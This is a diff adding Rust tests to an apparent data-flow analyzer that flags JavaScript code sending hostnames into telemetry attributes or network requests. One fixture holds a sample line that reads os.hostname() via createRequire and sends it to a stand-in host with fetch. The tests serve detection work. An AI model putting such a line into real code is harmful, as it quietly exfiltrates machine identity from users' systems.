@@ -210,3 +210,25 @@ fn serde_json_escape(s: &str) -> String {
     out.push('"');
     out
 }
+
+#[test]
+fn identity_under_a_telemetry_attribute_key_is_a_flow() {
+    let f = run("const os = require('os'); class C { constructor(o) { this.o = { serverName: o.serverName || process.env.SENTRY_NAME || os.hostname() }; } }
+        const attrs = { [semconv.SEMRESATTRS_HOST_NAME]: os.hostname(), other: 1 };");
+    let sinks: Vec<&str> = f.flows.iter().map(|fl| fl.sink_api.as_str()).collect();
+    assert!(sinks.contains(&"telemetry attribute serverName"), "{sinks:?}");
+    assert!(sinks.contains(&"telemetry attribute SEMRESATTRS_HOST_NAME"), "{sinks:?}");
+    assert!(f.flows.iter().all(|fl| fl.sink == SinkKind::TelemetryAttribute && fl.kinds.contains(DataKind::Hostname)));
+}
+
+#[test]
+fn non_identity_under_a_telemetry_attribute_key_is_quiet() {
+    let f = run("const attrs = { serverName: 'api', 'host.name': cfg.name };");
+    assert!(f.flows.is_empty(), "{:#?}", f.flows);
+}
+
+#[test]
+fn require_made_by_create_require_loads_modules() {
+    let f = run("import { createRequire as c } from 'node:module'; var r = c(import.meta.url); var o = r('os'); fetch('https://x.example.com/?h=' + o.hostname());");
+    assert!(f.flows.iter().any(|fl| fl.kinds.contains(DataKind::Hostname)), "{:#?}", f.flows);
+}
